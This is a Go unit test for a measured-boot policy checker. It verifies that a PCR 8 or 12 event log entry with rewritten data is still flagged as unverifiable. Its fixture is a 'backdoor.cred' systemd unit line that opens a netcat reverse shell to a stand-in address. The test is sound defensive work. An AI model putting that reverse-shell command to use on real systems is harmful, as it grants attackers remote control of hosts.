package policy

import (
	"testing"

	"github.com/bootgate/bootgate/internal/eventlogtest"
)

// A measurement in a command-line PCR that is no command line (here, what
// systemd-stub measures into PCR 12 for a credential file: a description as
// data, the file's bytes as digest) is unverifiable as the host logged it.
// The host rewrites only the event's data to the measured bytes, hoping the
// digest is then "explained" as a command line: it must still fail.
func TestCmdlinePCRPreimageIsNoCommandLine(t *testing.T) {
	l, pol := rhel8(t)
	measured := []byte("[Service]\nExecStart=/bin/sh -c 'nc -e /bin/sh 192.0.2.1 4444'\n\x00\x01\x02 binary tail \xff\xfe")
	for _, pcr := range []uint32{8, 12} {
		booted, at := l.Insert(l.Event(pcr, eventlogtest.EvIPL, eventlogtest.UTF16("backdoor.cred\x00"), measured))
		b := booted.Bytes()
		st, err := judge(b, b)
		if err != nil {
			t.Fatal(err)
		}
		if f := pol.Evaluate(st); !hasFailure(f, RuleLogUnverifiable) {
			t.Fatalf("PCR %d: the honest log passes: %v", pcr, f)
		}
		sent := booted.Clone()
		sent.Events[at].Data = measured
		st, err = judge(b, sent.Bytes())
		if err != nil {
			t.Fatal(err)
		}
		if f := pol.Evaluate(st); len(f) == 0 {
			t.Errorf("PCR %d: an unexplained measurement passes once its data is rewritten to the measured bytes", pcr)
		}
	}
}
